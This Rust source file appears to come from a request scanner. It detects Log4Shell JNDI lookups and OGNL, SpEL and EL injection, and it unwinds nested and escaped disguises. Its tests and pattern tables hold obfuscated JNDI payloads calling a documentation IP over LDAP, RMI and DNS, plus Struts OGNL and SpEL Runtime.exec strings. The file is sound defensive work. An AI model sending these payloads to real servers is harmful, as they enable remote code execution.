//! Expression languages: Log4j lookups and their kin, OGNL, SpEL, JSP and other EL, MVEL. Nested lookups are evaluated
//! the way the library does it, and what they spell is judged, so that no disguise of `jndi` needs a pattern of its own.
//!
//! Steps: at most 4 for each byte. Nesting is followed to [`MAX_DEPTH`]; what is deeper is a sign by itself.

use super::context::Strength::{self, Certain, Strong, Weak};
use super::finding::Finding;
use super::literals::{Idiom, Idioms, compile};
use super::{Classes, Detector, Wake};
use crate::canon::cursor::{self, Cursor};
use crate::flow::{Found, Fuel, Part, Place};

/// The registered detector.
pub(super) static LOOKUP: Lookup = Lookup;

/// Looks for lookups and expressions that reach out of their language.
#[derive(Debug)]
pub(super) struct Lookup;

const NAME: &str = "lookup";

/// How deep nested lookups are evaluated.
const MAX_DEPTH: usize = 16;
/// Bytes kept of what a lookup spells.
const MAX_SPELLED: usize = 256;

impl Detector for Lookup {
    fn name(&self) -> &'static str {
        NAME
    }

    fn wakes(&self) -> Wake {
        Wake { literals: LITERALS, bytes: &["${", "%{", "#{", "@(", "$\\"] }
    }

    fn is_worth(&self, part: &Part<'_>, _: Classes) -> bool {
        let bytes = part.canonical.as_ref();
        let opens = |at: usize| matches!(bytes.get(at + 1), Some(b'{' | b'\\' | b'('));
        memchr::memchr3_iter(b'$', b'%', b'#', bytes).any(opens)
            || memchr::memchr_iter(b'@', bytes).any(opens)
            || cursor::find_exact(bytes, b"\\u00").is_some()
    }

    fn reads_binaries(&self) -> bool {
        true
    }

    fn inspect(&self, part: &Part<'_>, found: &mut Found, fuel: &mut Fuel) {
        let bytes = part.canonical.as_ref();
        if matches!(part.place, Place::BodyOpaque) || fuel.spend(4 * bytes.len()).is_err() {
            return;
        }
        let lookup = lookups(bytes);
        let expression = Finding::clearest(EXPRESSIONS.find(bytes));
        let best = Finding::clearest([lookup, expression].into_iter().flatten());
        if let Some(best) = best {
            best.report(NAME, part, found);
        }
    }
}

/// What wakes the detector besides an opened lookup.
const LITERALS: &[&str] = &[
    "jndi",
    "java.lang",
    "javax.",
    "java.util",
    "getruntime",
    "processbuilder",
    "ognl",
    "_memberaccess",
    "getclass(",
    ".class.",
    "xwork",
    "pagecontext",
    "applicationscope",
    "classloader",
    "scriptenginemanager",
    "java.io",
    "#context[",
    "#attr[",
    "#application[",
    "#request[",
    "redirectaction:",
    "t(org.",
    "t (java",
    "@org.apache",
    "com.opensymphony",
    "getenginebyname(",
    "class.forname(",
];

/// Expressions that reach the machine out of an expression language.
#[rustfmt::skip] // a table
const TABLE: &[Idiom] = &[
    ("#_memberaccess", Certain, "lookup-ognl"), ("@java.lang.runtime@", Certain, "lookup-ognl"),
    ("@ognl.ognlcontext@", Certain, "lookup-ognl"), ("#context[", Strong, "lookup-ognl"),
    ("#attr[", Weak, "lookup-ognl"), ("#application[", Weak, "lookup-ognl"), ("#request[", Weak, "lookup-ognl"),
    ("xwork.methodaccessor", Certain, "lookup-ognl"), ("@java.lang.", Strong, "lookup-ognl"),
    ("@org.apache.struts2", Certain, "lookup-ognl"), ("@org.apache.commons.io", Certain, "lookup-ognl"),
    ("com.opensymphony.xwork2", Strong, "lookup-ognl"), ("redirect:${", Certain, "lookup-ognl"),
    ("redirectaction:", Weak, "lookup-ognl"), ("redirect:%{", Certain, "lookup-ognl"),
    ("t(java.lang.", Certain, "lookup-spel"), ("t(java.", Strong, "lookup-spel"),
    ("t(org.springframework", Certain, "lookup-spel"), ("t(javax.", Certain, "lookup-spel"),
    ("t (java.", Strong, "lookup-spel"), ("new java.lang.processbuilder", Certain, "lookup-runtime"),
    ("java.lang.runtime", Strong, "lookup-runtime"), ("java.lang.processbuilder", Strong, "lookup-runtime"),
    ("getruntime().exec", Certain, "lookup-runtime"), ("getruntime(", Strong, "lookup-runtime"),
    ("getclass().forname", Certain, "lookup-runtime"), (".getclass().getclassloader", Certain, "lookup-runtime"),
    ("class.forname(", Strong, "lookup-runtime"), ("class.module.classloader", Certain, "lookup-runtime"),
    ("class.classloader", Certain, "lookup-runtime"), ("scriptenginemanager", Strong, "lookup-runtime"),
    ("getenginebyname(", Strong, "lookup-runtime"), ("${pagecontext", Certain, "lookup-el"),
    ("${applicationscope", Certain, "lookup-el"), ("${sessionscope", Strong, "lookup-el"),
    ("${requestscope", Strong, "lookup-el"), ("${header.", Weak, "lookup-el"), ("${cookie.", Weak, "lookup-el"),
    ("#{request.", Weak, "lookup-el"), ("#{session.", Weak, "lookup-el"), ("#{facescontext", Certain, "lookup-el"),
    ("${facescontext", Certain, "lookup-el"), ("#{''.", Strong, "lookup-el"), ("${''.", Strong, "lookup-el"),
    ("${\"\".", Strong, "lookup-el"), ("#{\"\".", Strong, "lookup-el"), ("${class.", Strong, "lookup-el"),
];
static EXPRESSIONS: Idioms = Idioms::new(TABLE, || compile(TABLE));

/// One lookup that has been opened and not yet closed.
#[derive(Debug, Default)]
struct Open {
    at: usize,
    /// What it has spelled so far, nested lookups already replaced.
    spelled: Vec<u8>,
    /// Lookups that stood inside of it.
    nested: usize,
}

/// Evaluates the lookups in `bytes` and judges each.
fn lookups(bytes: &[u8]) -> Option<Finding> {
    let mut best: Option<Finding> = None;
    let mut stack: Vec<Open> = Vec::new();
    let mut note = |strength: Option<(Strength, &'static str)>, at, end| {
        if let Some((strength, name)) = strength.filter(|(s, _)| best.is_none_or(|b| b.strength < *s)) {
            best = Some(Finding { strength, name, at, end });
        }
    };
    let mut cursor = Cursor::new(bytes, 0);
    let mut deeper = 0_usize;
    while let Some(byte) = next(&mut cursor, !stack.is_empty()) {
        match byte {
            Piece::Open(at) if stack.len() >= MAX_DEPTH => {
                deeper += 1;
                note(Some((Certain, "lookup-nested")), at, cursor.at());
            }
            Piece::Open(at) => stack.push(Open { at, ..Open::default() }),
            Piece::Close if deeper > 0 => deeper -= 1,
            Piece::Close => {
                let Some(open) = stack.pop() else { continue };
                note(judge(&open, !stack.is_empty()), open.at, cursor.at());
                if let Some(outer) = stack.last_mut() {
                    outer.nested += 1;
                    push(&mut outer.spelled, value_of(&open.spelled));
                }
            }
            Piece::Byte(byte) => {
                if let Some(open) = stack.last_mut() {
                    push(&mut open.spelled, &[byte]);
                }
            }
        }
    }
    // A lookup cut off by the end of the value is judged by what it has spelled: the application may close it.
    let mut inner: Vec<u8> = Vec::new();
    while let Some(mut open) = stack.pop() {
        push(&mut open.spelled, &inner);
        note(judge(&open, !stack.is_empty()), open.at, bytes.len());
        inner = value_of(&open.spelled).to_vec();
    }
    best
}

fn push(spelled: &mut Vec<u8>, more: &[u8]) {
    let room = MAX_SPELLED.saturating_sub(spelled.len());
    spelled.extend(more.iter().take(room));
}

enum Piece {
    Open(usize),
    Close,
    Byte(u8),
}

/// The next piece; outside of lookups everything up to the next opening is passed over. `\u0024` and the like are read.
fn next(cursor: &mut Cursor<'_>, inside: bool) -> Option<Piece> {
    if !inside {
        cursor.take_while(|b| b != b'$' && b != b'\\');
    }
    let at = cursor.at();
    if cursor.sees(b"$\\{") {
        cursor.skip(3);
        return Some(Piece::Open(at));
    }
    match unescaped(cursor)? {
        b'$' if cursor.peek() == Some(b'{') => {
            cursor.skip(1);
            Some(Piece::Open(at))
        }
        b'}' => Some(Piece::Close),
        byte => Some(Piece::Byte(byte)),
    }
}

fn unescaped(cursor: &mut Cursor<'_>) -> Option<u8> {
    if cursor.sees(b"\\u00") {
        let digits = cursor.rest().get(4..6).and_then(|d| std::str::from_utf8(d).ok());
        if let Some(byte) = digits.and_then(|d| u8::from_str_radix(d, 16).ok()) {
            cursor.skip(6);
            return Some(byte);
        }
    }
    cursor.bump()
}

/// What a lookup evaluates to: `lower:J` to `J` (case is ignored here anyway), `x:y:-z` to `z`, `date:'j'` to `j`.
fn value_of(spelled: &[u8]) -> &[u8] {
    if let Some(at) = cursor::find_exact(spelled, b":-") {
        return spelled.get(at + 2..).unwrap_or_default();
    }
    for prefix in [&b"lower:"[..], b"upper:", b"url:", b"const:"] {
        if cursor::starts_with(spelled, prefix) {
            return spelled.get(prefix.len()..).unwrap_or_default();
        }
    }
    match cursor::starts_with(spelled, b"date:") {
        true => spelled
            .get(5..)
            .unwrap_or_default()
            .trim_ascii_start()
            .strip_prefix(b"'")
            .map_or(&[], |d| d.strip_suffix(b"'").unwrap_or(d)),
        false => &[],
    }
}

/// Lookups that only tell an intruder something, or run something, sorted.
const TELLING: &[(&[u8], Strength, &str)] = &[
    (b"jndi:", Certain, "lookup-jndi"),
    (b"script:", Certain, "lookup-script"),
    (b"dns:", Certain, "lookup-network"),
    (b"url:", Strong, "lookup-network"),
    (b"file:", Weak, "lookup-file"),
    (b"lower:", Strong, "lookup-case"),
    (b"upper:", Strong, "lookup-case"),
    (b"sys:", Strong, "lookup-system"),
    (b"java:", Strong, "lookup-system"),
    (b"docker:", Strong, "lookup-system"),
    (b"k8s:", Strong, "lookup-system"),
    (b"spring:", Strong, "lookup-system"),
    (b"bundle:", Strong, "lookup-system"),
    (b"main:", Strong, "lookup-system"),
    (b"ctx:", Strong, "lookup-system"),
    (b"log4j:", Strong, "lookup-system"),
    (b"base64decoder:", Certain, "lookup-case"),
    (b"::-", Certain, "lookup-disguised"),
    (b"env:aws_", Certain, "lookup-system"),
];

fn judge(open: &Open, nested: bool) -> Option<(Strength, &'static str)> {
    let spelled: &[u8] = open.spelled.trim_ascii_start();
    let jndi = cursor::find(spelled, b"jndi")
        .is_some_and(|at| spelled.get(at + 4..at + 12).is_some_and(|rest| rest.contains(&b':')));
    if jndi || cursor::starts_with(spelled, b"jndi") && open.nested > 0 {
        return Some((Certain, "lookup-jndi"));
    }
    let told = TELLING.iter().find(|(prefix, ..)| cursor::starts_with(spelled, prefix));
    if let Some((_, strength, name)) = told {
        return Some((*strength, name));
    }
    // A default of a character or two for a name that cannot exist spells a word letter by letter.
    let letter = cursor::find_exact(spelled, b":-").is_some_and(|at| spelled.len() - at <= 4);
    if nested && letter || open.nested >= 3 {
        return Some((if open.nested >= 3 { Certain } else { Strong }, "lookup-disguised"));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn total(value: &str) -> u32 {
        let mut found = Found::default();
        LOOKUP.inspect(&Part::plain(Place::HeaderValue, b"x", value.as_bytes()), &mut found, &mut Fuel::new(1_000_000));
        found.total()
    }

    #[test]
    fn lookups_are_attacks_in_every_disguise() {
        for value in [
            "${jndi:ldap://203.0.113.9/a}",
            "x${JnDi:rmi://203.0.113.9/a}x",
            "${${lower:j}ndi:ldap://203.0.113.9/a}",
            "${${::-j}${::-n}${::-d}${::-i}:dns://203.0.113.9}",
            "${j${k8s:k5:-ND}i:ldap://203.0.113.9/a}",
            "${jn${env::-}di:ldap://203.0.113.9/a}",
            "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://203.0.113.9}",
            "${jn${date:'d'}i:ldap://203.0.113.9/a}",
            "$\\{jndi:ldap://203.0.113.9/a}",
            "${\\u006a\\u006e\\u0064\\u0069:ldap://203.0.113.9}",
            "${jndi:ldap://203.0.113.9/cut off",
            "${script:javascript:1}",
            "${sys:user.home}",
        ] {
            assert!(total(value) >= 100, "{value}");
        }
    }

    #[test]
    fn expressions_that_reach_the_machine_are_attacks() {
        for value in [
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "${T(java.lang.Runtime).getRuntime().exec('x')}",
            "#{T(java.lang.System).getenv()}",
            "${pageContext.request}",
            "class.module.classLoader.resources",
            "redirect:${1+1}",
        ] {
            assert!(total(value) >= 100, "{value}");
        }
    }

    #[test]
    fn ordinary_placeholders_are_nothing() {
        for value in [
            "${HOME}/bin",
            "${VERSION:-1.0}",
            "${{ secrets.TOKEN }}",
            "`${a} and ${b}`",
            "costs $5 {net}",
            "#{user.name}",
            "${env:HOME}",
            "${project.version}",
            "rust has no jndi",
        ] {
            assert_eq!(total(value), 0, "{value}");
        }
    }

    #[test]
    fn nesting_is_followed_to_its_limit() {
        let nest = |depth: usize| "${a:".repeat(depth) + &"}".repeat(depth);
        assert_eq!(total(&nest(MAX_DEPTH)), 0);
        assert!(total(&nest(MAX_DEPTH + 1)) >= 100);
    }

    proptest! {
        #[test]
        fn any_text_is_evaluated(text in "[$\\{\\}:a-zA-Z\\-'\\\\u0]{0,300}") {
            LOOKUP.inspect(&Part::plain(Place::QueryValue, b"q", text.as_bytes()), &mut Found::default(), &mut Fuel::new(10_000));
        }
    }
}
